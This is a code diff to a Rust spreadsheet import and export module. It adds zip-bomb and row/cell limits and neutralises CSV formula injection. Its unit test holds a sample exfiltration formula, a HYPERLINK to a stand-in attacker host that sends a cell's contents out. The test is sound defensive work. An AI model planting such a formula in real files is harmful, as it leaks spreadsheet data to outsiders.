@@ -2,9 +2,10 @@
 //! Lines read into rows of named cells; sheets written as CSV or XLSX. No knowledge of the
 //! libraries: `import` and the exports give the columns their meaning.
 
-use std::io::Cursor;
+use std::borrow::Cow;
+use std::io::{Cursor, Read};
 
-use calamine::{Data, Reader, Xlsx};
+use calamine::{Data, DataRef, Reader, Xlsx};
 use serde_json::Value;
 
 /// The media type of an XLSX workbook.
@@ -111,33 +112,103 @@ pub enum ReadError {
     Workbook(String),
     #[error("the file is not valid UTF-8 (first bad byte at {0}); send encoding=gbk if Excel saved it as GBK")]
     NotUtf8(usize),
+    #[error("the file has more than {max} data rows; split it into files of at most {max} rows each")]
+    TooManyRows { max: usize },
+    #[error("the sheet has more than {max} cells; remove unused columns or split the file")]
+    TooManyCells { max: usize },
+    #[error(
+        "the workbook unpacks to more than {max_mib} MiB; save it again from Excel or split it (a workbook that small on disk and this large inside is refused as a zip bomb)"
+    )]
+    Unpacked { max_mib: u64 },
+}
+
+impl ReadError {
+    /// Whether the file was refused for its size rather than for its content.
+    pub fn is_too_large(&self) -> bool {
+        matches!(self, ReadError::TooManyRows { .. } | ReadError::TooManyCells { .. } | ReadError::Unpacked { .. })
+    }
+}
+
+/// Caps on the work one file may cause, checked while it is read, so that no file (a zip bomb,
+/// a sheet of millions of empty cells, a CSV of millions of short lines) can exhaust memory.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Limits {
+    /// Data rows (the header not counted).
+    pub max_rows: usize,
+    /// Cells of a sheet, rows times columns (what calamine would hold).
+    pub max_cells: usize,
+    /// Bytes an XLSX may unpack to, every part together, measured by unpacking (a zip's declared
+    /// sizes can lie).
+    pub max_unpacked_bytes: u64,
+}
+
+impl Default for Limits {
+    fn default() -> Self {
+        Limits { max_rows: 100_000, max_cells: 4_000_000, max_unpacked_bytes: 256 * 1024 * 1024 }
+    }
 }
 
 /// Reads `bytes` as `format`; a CSV's encoding is detected when not given (a UTF-8 BOM or valid
 /// UTF-8 means UTF-8, anything else is read as GBK).
 pub fn read(bytes: &[u8], format: Format, encoding: Option<Encoding>) -> Result<Table, ReadError> {
+    read_limited(bytes, format, encoding, &Limits::default())
+}
+
+/// `read` within `limits`: reading stops with an error as soon as a cap is passed.
+pub fn read_limited(
+    bytes: &[u8],
+    format: Format,
+    encoding: Option<Encoding>,
+    limits: &Limits,
+) -> Result<Table, ReadError> {
     if bytes.iter().all(u8::is_ascii_whitespace) {
         return Err(ReadError::Empty);
     }
     match format {
-        Format::Csv => read_csv(bytes, encoding),
-        Format::Xlsx => read_xlsx(bytes),
-        Format::JsonLines => read_jsonl(bytes, encoding),
+        Format::Csv => read_csv(bytes, encoding, limits),
+        Format::Xlsx => read_xlsx(bytes, limits),
+        Format::JsonLines => read_jsonl(bytes, encoding, limits),
     }
 }
 
-fn decode(bytes: &[u8], encoding: Option<Encoding>) -> Result<(String, Encoding), ReadError> {
+/// The text of a file, borrowed when it is UTF-8 already (no second copy of a large file).
+fn decode(bytes: &[u8], encoding: Option<Encoding>) -> Result<(Cow<'_, str>, Encoding), ReadError> {
     let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
     let encoding = encoding.unwrap_or(if std::str::from_utf8(bytes).is_ok() { Encoding::Utf8 } else { Encoding::Gbk });
     match encoding {
         Encoding::Utf8 => match std::str::from_utf8(bytes) {
-            Ok(text) => Ok((text.to_string(), encoding)),
+            Ok(text) => Ok((Cow::Borrowed(text), encoding)),
             Err(e) => Err(ReadError::NotUtf8(e.valid_up_to())),
         },
         Encoding::Gbk => {
             let (text, _) = encoding_rs::GB18030.decode_without_bom_handling(bytes);
-            Ok((text.into_owned(), encoding))
+            Ok((text, encoding))
         }
+    }
+}
+
+/// Counts rows and cells against the limits as a file is read.
+struct Budget<'a> {
+    limits: &'a Limits,
+    rows: usize,
+    cells: usize,
+}
+
+impl<'a> Budget<'a> {
+    fn new(limits: &'a Limits) -> Self {
+        Budget { limits, rows: 0, cells: 0 }
+    }
+
+    fn row(&mut self, cells: usize) -> Result<(), ReadError> {
+        self.rows += 1;
+        self.cells += cells;
+        if self.rows > self.limits.max_rows {
+            return Err(ReadError::TooManyRows { max: self.limits.max_rows });
+        }
+        if self.cells > self.limits.max_cells {
+            return Err(ReadError::TooManyCells { max: self.limits.max_cells });
+        }
+        Ok(())
     }
 }
 
@@ -145,7 +216,8 @@ fn header(text: &str) -> String {
     text.trim().trim_start_matches('\u{feff}').trim().to_string()
 }
 
-fn read_csv(bytes: &[u8], encoding: Option<Encoding>) -> Result<Table, ReadError> {
+fn read_csv(bytes: &[u8], encoding: Option<Encoding>, limits: &Limits) -> Result<Table, ReadError> {
+    let mut budget = Budget::new(limits);
     let (text, encoding) = decode(bytes, encoding)?;
     let mut reader = csv::ReaderBuilder::new().flexible(true).has_headers(false).from_reader(text.as_bytes());
     let mut records = reader.records();
@@ -163,11 +235,12 @@ fn read_csv(bytes: &[u8], encoding: Option<Encoding>) -> Result<Table, ReadError
         if record.iter().all(|c| c.trim().is_empty()) {
             continue;
         }
+        budget.row(record.len())?;
         let cells = headers
             .iter()
             .zip(record.iter())
             .filter(|(h, _)| !h.is_empty())
-            .map(|(h, c)| (h.clone(), Value::String(c.to_string())))
+            .map(|(h, c)| (h.clone(), Value::String(restore_formula(c).to_string())))
             .collect();
         // The spreadsheet row, as Excel shows it (a quoted cell may span lines).
         rows.push(Row { number: i + 2, cells });
@@ -201,37 +274,125 @@ fn excel_date(serial: f64) -> Option<String> {
     epoch.checked_add_signed(chrono::Duration::days(serial.floor() as i64)).map(|d| d.to_string())
 }
 
-fn read_xlsx(bytes: &[u8]) -> Result<Table, ReadError> {
-    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec()))
+/// Unpacks every part of a workbook once, counting, before calamine opens it: the sizes a zip
+/// declares can lie, and calamine keeps the shared strings of a workbook in memory whole.
+fn check_unpacked_size(bytes: &[u8], limits: &Limits) -> Result<(), ReadError> {
+    let mut archive = zip::ZipArchive::new(Cursor::new(bytes))
+        .map_err(|e| ReadError::Workbook(format!("not an XLSX workbook: {e}")))?;
+    let too_large = || ReadError::Unpacked { max_mib: limits.max_unpacked_bytes / 1024 / 1024 };
+    let mut total: u64 = 0;
+    let mut buffer = vec![0u8; 64 * 1024];
+    for i in 0..archive.len() {
+        let mut part = archive.by_index(i).map_err(|e| ReadError::Workbook(e.to_string()))?;
+        total = total.saturating_add(part.size());
+        if total > limits.max_unpacked_bytes {
+            return Err(too_large());
+        }
+        total -= part.size();
+        loop {
+            let n = part.read(&mut buffer).map_err(|e| ReadError::Workbook(e.to_string()))?;
+            if n == 0 {
+                break;
+            }
+            total += n as u64;
+            if total > limits.max_unpacked_bytes {
+                return Err(too_large());
+            }
+        }
+    }
+    Ok(())
+}
+
+fn read_xlsx(bytes: &[u8], limits: &Limits) -> Result<Table, ReadError> {
+    check_unpacked_size(bytes, limits)?;
+    let mut workbook: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes))
         .map_err(|e: calamine::XlsxError| ReadError::Workbook(e.to_string()))?;
     let first = workbook.sheet_names().first().cloned().ok_or_else(|| ReadError::Workbook("no sheet".into()))?;
-    let range = workbook.worksheet_range(&first).map_err(|e| ReadError::Workbook(e.to_string()))?;
-    // Rows count from the sheet's first cell, so numbers match what Excel shows.
-    let first_row = range.start().map(|(r, _)| r as usize).unwrap_or(0);
-    let mut rows_iter = range.rows();
-    let headers: Vec<String> =
-        rows_iter.next().ok_or(ReadError::NoHeader)?.iter().map(|c| header(&cell_text(c))).collect();
+    let mut cells = workbook.worksheet_cells_reader(&first).map_err(|e| ReadError::Workbook(e.to_string()))?;
+    // A sheet that declares more cells than allowed is refused before any is read.
+    let dimensions = cells.dimensions();
+    let declared = (dimensions.end.0.saturating_sub(dimensions.start.0) as u64 + 1)
+        * (dimensions.end.1.saturating_sub(dimensions.start.1) as u64 + 1);
+    if declared > limits.max_cells as u64 {
+        return Err(ReadError::TooManyCells { max: limits.max_cells });
+    }
+    // Cells come row by row; each row is kept as its texts, only up to the caps.
+    let mut budget = Budget::new(limits);
+    let mut headers: Option<Vec<String>> = None;
+    let mut rows = Vec::new();
+    let mut seen: usize = 0;
+    let mut current: Option<(u32, Vec<(u32, String)>)> = None;
+    let mut finish =
+        |row: u32, texts: Vec<(u32, String)>, headers: &mut Option<Vec<String>>| -> Result<(), ReadError> {
+            match headers {
+                None => {
+                    let width = texts.iter().map(|(c, _)| *c as usize + 1).max().unwrap_or(0);
+                    let mut names = vec![String::new(); width];
+                    for (c, t) in texts {
+                        names[c as usize] = header(&t);
+                    }
+                    *headers = Some(names);
+                }
+                Some(names) => {
+                    if texts.iter().all(|(_, t)| t.trim().is_empty()) {
+                        return Ok(());
+                    }
+                    budget.row(texts.len())?;
+                    let cells = texts
+                        .into_iter()
+                        .filter_map(|(c, t)| {
+                            names.get(c as usize).filter(|h| !h.is_empty()).map(|h| (h.clone(), Value::String(t)))
+                        })
+                        .collect();
+                    // The row as Excel shows it.
+                    rows.push(Row { number: row as usize + 1, cells });
+                }
+            }
+            Ok(())
+        };
+    while let Some(cell) = cells.next_cell().map_err(|e| ReadError::Workbook(e.to_string()))? {
+        seen += 1;
+        if seen > limits.max_cells {
+            return Err(ReadError::TooManyCells { max: limits.max_cells });
+        }
+        let (r, c) = cell.get_position();
+        let text = cell_ref_text(cell.get_value());
+        match &mut current {
+            Some((row, texts)) if *row == r => texts.push((c, text)),
+            _ => {
+                if let Some((row, texts)) = current.take() {
+                    finish(row, texts, &mut headers)?;
+                }
+                current = Some((r, vec![(c, text)]));
+            }
+        }
+    }
+    if let Some((row, texts)) = current.take() {
+        finish(row, texts, &mut headers)?;
+    }
+    let headers = headers.ok_or(ReadError::NoHeader)?;
     if headers.iter().all(String::is_empty) {
         return Err(ReadError::NoHeader);
-    }
-    let mut rows = Vec::new();
-    for (i, row) in rows_iter.enumerate() {
-        let texts: Vec<String> = row.iter().map(cell_text).collect();
-        if texts.iter().all(|t| t.trim().is_empty()) {
-            continue;
-        }
-        let cells = headers
-            .iter()
-            .zip(texts)
-            .filter(|(h, _)| !h.is_empty())
-            .map(|(h, t)| (h.clone(), Value::String(t)))
-            .collect();
-        rows.push(Row { number: first_row + i + 2, cells });
     }
     Ok(Table { format: Format::Xlsx, encoding: None, headers, rows })
 }
 
-fn read_jsonl(bytes: &[u8], encoding: Option<Encoding>) -> Result<Table, ReadError> {
+fn cell_ref_text(cell: &DataRef<'_>) -> String {
+    match cell {
+        DataRef::SharedString(s) => (*s).to_string(),
+        DataRef::String(s) => s.clone(),
+        DataRef::Int(n) => n.to_string(),
+        DataRef::Float(f) => cell_text(&Data::Float(*f)),
+        DataRef::Bool(b) => b.to_string(),
+        DataRef::DateTime(d) => cell_text(&Data::DateTime(*d)),
+        DataRef::DateTimeIso(s) | DataRef::DurationIso(s) => s.chars().take(10).collect(),
+        DataRef::Error(e) => format!("#{e:?}"),
+        DataRef::Empty => String::new(),
+    }
+}
+
+fn read_jsonl(bytes: &[u8], encoding: Option<Encoding>, limits: &Limits) -> Result<Table, ReadError> {
+    let mut budget = Budget::new(limits);
     let (text, _) = decode(bytes, encoding.or(Some(Encoding::Utf8)))?;
     let mut headers: Vec<String> = Vec::new();
     let mut rows = Vec::new();
@@ -244,6 +405,7 @@ fn read_jsonl(bytes: &[u8], encoding: Option<Encoding>) -> Result<Table, ReadErr
         let Value::Object(map) = value else {
             return Err(ReadError::Line { line: i + 1, message: "each line must be a JSON object".into() });
         };
+        budget.row(map.len())?;
         for key in map.keys() {
             if !headers.contains(key) {
                 headers.push(key.clone());
@@ -291,14 +453,43 @@ pub fn csv_line(fields: &[String]) -> String {
     format!("{}\r\n", quoted.join(","))
 }
 
-/// One sheet as CSV, UTF-8 with a byte-order mark so Excel shows the Chinese.
+/// One sheet as CSV, UTF-8 with a byte-order mark so Excel shows the Chinese. Cells that a
+/// spreadsheet would run as a formula are neutralised (see `neutralise_formula`).
 pub fn sheet_csv(sheet: &Sheet) -> Vec<u8> {
     let mut out = String::from("\u{feff}");
     out.push_str(&csv_line(&sheet.header));
     for row in &sheet.rows {
-        out.push_str(&csv_line(&row.iter().map(Cell::text).collect::<Vec<_>>()));
+        out.push_str(&csv_row(row));
     }
     out.into_bytes()
+}
+
+/// One row of cells as a CSV line, formulas neutralised.
+pub fn csv_row(row: &[Cell]) -> String {
+    csv_line(&row.iter().map(|c| neutralise_formula(&c.text())).collect::<Vec<_>>())
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+fn starts_formula(text: &str) -> bool {
+    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
+}
+
+/// A cell that begins with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`, so
+/// Excel and WPS show it as text instead of running it (`=HYPERLINK(...)` stays a title). A text
+/// that already begins with quotes before such a character gets one more, so the import can
+/// take exactly one away (`restore_formula`) and every text survives an export and re-import.
+pub fn neutralise_formula(text: &str) -> String {
+    if starts_formula(text) { format!("'{text}") } else { text.to_string() }
+}
+
+/// The inverse of `neutralise_formula`, applied to every cell of an imported CSV.
+pub fn restore_formula(text: &str) -> &str {
+    match text.strip_prefix('\'') {
+        Some(rest) if starts_formula(rest) => rest,
+        _ => text,
+    }
 }
 
 /// Sheets as an XLSX workbook: bold frozen headers; whole numbers as numbers, decimals (amounts)
@@ -344,6 +535,39 @@ mod tests {
             .iter()
             .map(|r| r.cells.iter().map(|(h, v)| (h.clone(), v.as_str().unwrap_or_default().to_string())).collect())
             .collect()
+    }
+
+    #[test]
+    fn formulas_are_neutralised_in_csv_and_restored_on_import() {
+        let texts = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
+            "+1",
+            "-2",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+            "'=x",
+            "''-y",
+            "'普通",
+            "碳捕集-利用",
+            "",
+        ];
+        let sheet = Sheet {
+            name: "t".into(),
+            header: vec!["标题".into()],
+            rows: texts.iter().map(|t| vec![Cell::Text(t.to_string())]).collect(),
+        };
+        let bytes = sheet_csv(&sheet);
+        let text = String::from_utf8(bytes.clone()).unwrap();
+        for line in text.lines().skip(1) {
+            let first = line.trim_start_matches('"');
+            assert!(!first.starts_with(['=', '+', '-', '@', '\t']), "{line}");
+        }
+        assert!(text.contains("'=HYPERLINK"));
+        let table = read(&bytes, Format::Csv, None).unwrap();
+        let back: Vec<&str> = table.rows.iter().map(|r| r.cells[0].1.as_str().unwrap()).collect();
+        let expected: Vec<&str> = texts.iter().copied().filter(|t| !t.is_empty()).collect();
+        assert_eq!(back, expected);
     }
 
     #[test]
